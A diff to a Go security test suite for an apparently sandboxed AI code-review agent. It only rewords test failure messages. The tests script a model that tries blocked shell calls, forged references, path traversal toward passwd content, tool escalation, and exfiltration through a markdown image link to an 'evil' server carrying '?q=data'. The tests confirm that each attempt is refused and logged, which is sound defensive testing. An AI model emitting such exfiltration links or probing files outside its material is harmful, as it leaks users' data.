@@ -180,7 +180,7 @@ func TestAS001CommandsAndWrites(t *testing.T) {
 		t.Error("it was run")
 	}
 	if r.Security["TOOL_BLOCKED"] != 5 || !r.event("TOOL_BLOCKED", `"severity":"critical"`, `"tool":"Bash"`, "AS-001") {
-		t.Errorf("%v\n%s", r.Security, r.events)
+		t.Errorf("events %v, want 5 critical TOOL_BLOCKED for AS-001:\n%s", r.Security, r.events)
 	}
 	if !r.Complete || len(r.Agents) != 1 || r.Agents[0].DeniedCalls != 5 || r.Agents[0].ToolCalls != 6 {
 		t.Errorf("the review did not go on: %+v", r)
@@ -225,11 +225,11 @@ func TestAS002ForgedReferences(t *testing.T) {
 	results := m.Turns()[1].Results
 	for i, res := range results {
 		if !strings.HasPrefix(res, "malformed_reference") && !strings.HasPrefix(res, "invalid_hmac") && !strings.HasPrefix(res, "session_mismatch") && !strings.HasPrefix(res, "expired") {
-			t.Errorf("%s: %q", made[i], res)
+			t.Errorf("%s: result %q, want a refusal of the reference", made[i], res)
 		}
 	}
 	if len(results) != len(made) || r.Agents[0].DeniedCalls != len(made) {
-		t.Errorf("%d results, %+v", len(results), r.Agents)
+		t.Errorf("%d results, agents %+v; want %d refused calls", len(results), r.Agents, len(made))
 	}
 	for _, kind := range []string{"HMAC_VERIFICATION_FAILED", "SESSION_MISMATCH", "INVALID_TYPED_REFERENCE"} {
 		if r.Security[kind] == 0 || !r.event(kind) {
@@ -238,7 +238,7 @@ func TestAS002ForgedReferences(t *testing.T) {
 	}
 	for _, f := range r.Files {
 		if f.Reviewed != "none" {
-			t.Errorf("%+v", f)
+			t.Errorf("file %+v, want it reviewed by none", f)
 		}
 	}
 	if r.exit != 3 {
@@ -267,7 +267,7 @@ func TestAS003AnotherContext(t *testing.T) {
 	})
 	r := v.review(t, m, "--isolate", "require", "--max-agents", "1")
 	if len(r.Agents) != 2 || len(other) != 1 || r.Security["SESSION_MISMATCH"] != 1 || !r.event("SESSION_MISMATCH", `"severity":"critical"`) {
-		t.Errorf("%v %+v", r.Security, r.Agents)
+		t.Errorf("events %v, agents %+v; want two agents and one critical SESSION_MISMATCH", r.Security, r.Agents)
 	}
 	if !r.event("TOOL_BLOCKED", `"severity":"medium"`, "AS-003") {
 		t.Error("no event for the tool of state")
@@ -297,7 +297,7 @@ func TestAS004Traversal(t *testing.T) {
 	results := m.Turns()[2].Results
 	for _, res := range results {
 		if strings.Contains(res, "root:x") || strings.Contains(res, "secret\"") {
-			t.Errorf("%q", res)
+			t.Errorf("result %q, want nothing of a file outside the material", res)
 		}
 	}
 	if r.Agents[0].DeniedCalls != 56 {
@@ -378,7 +378,7 @@ func TestAS006Exhaustion(t *testing.T) {
 			v := newVictim(t, map[string]string{"a.txt": strings.Repeat(strings.Repeat("a", 5000)+"\n", 60)})
 			r := v.review(t, modeltest.Start(t, tt.script), append([]string{"--isolate", "require"}, tt.args...)...)
 			if r.Agents[0].Exit != tt.exit || tt.event != "" && r.Security[tt.event] == 0 {
-				t.Errorf("%+v %v %v", r.Agents, r.Security, r.IncompleteReasons)
+				t.Errorf("agents %+v, events %v, incomplete %v; want exit %s and the event %q", r.Agents, r.Security, r.IncompleteReasons, tt.exit, tt.event)
 			}
 			if r.rss > most {
 				t.Errorf("%d KiB of memory", r.rss)
@@ -401,7 +401,7 @@ func TestAS007Escalation(t *testing.T) {
 	}, modeltest.Answer("low")))
 	r := v.review(t, m, "--isolate", "require")
 	if r.Security["TOOL_BLOCKED"] != len(names) || r.Security["INVALID_TYPED_REFERENCE"] != 1 || !r.Complete {
-		t.Errorf("%v %v", r.Security, r.IncompleteReasons)
+		t.Errorf("events %v, incomplete %v; want %d TOOL_BLOCKED, one INVALID_TYPED_REFERENCE, and a complete review", r.Security, r.IncompleteReasons, len(names))
 	}
 	if !r.event("TOOL_BLOCKED", `"tool":"Task"`, `"severity":"critical"`, "AS-007") || !r.event("TOOL_BLOCKED", `"tool":"Skill"`, `"severity":"high"`, "AS-007") {
 		t.Error(r.events)
@@ -420,7 +420,7 @@ func TestAS008Exfiltration(t *testing.T) {
 	}, modeltest.Answer("high", modeltest.Finding("high", "See ![x]("+evil.URL+"/?q=data) and [here]("+evil.URL+")", "a.py", 1))))
 	r := v.review(t, m, "--isolate", "require")
 	if r.Security["TOOL_BLOCKED"] != 4 || !r.event("TOOL_BLOCKED", "AS-008", `"tool":"mcp__x__post"`) || len(evil.Turns()) > 0 || len(asked) > 0 {
-		t.Errorf("%v", r.Security)
+		t.Errorf("events %v, want 4 TOOL_BLOCKED and no call of another server", r.Security)
 	}
 	// A provider's answer leads nowhere either.
 	away := modeltest.Start(t, func(modeltest.Turn) modeltest.Say {
@@ -443,7 +443,7 @@ func TestAS010Keys(t *testing.T) {
 	})
 	r := v.review(t, m, "--isolate", "require")
 	if looked != "" || !r.Complete {
-		t.Errorf("%s; %v", looked, r.IncompleteReasons)
+		t.Errorf("looked at %q, incomplete %v; want nothing, and a complete review", looked, r.IncompleteReasons)
 	}
 }
 
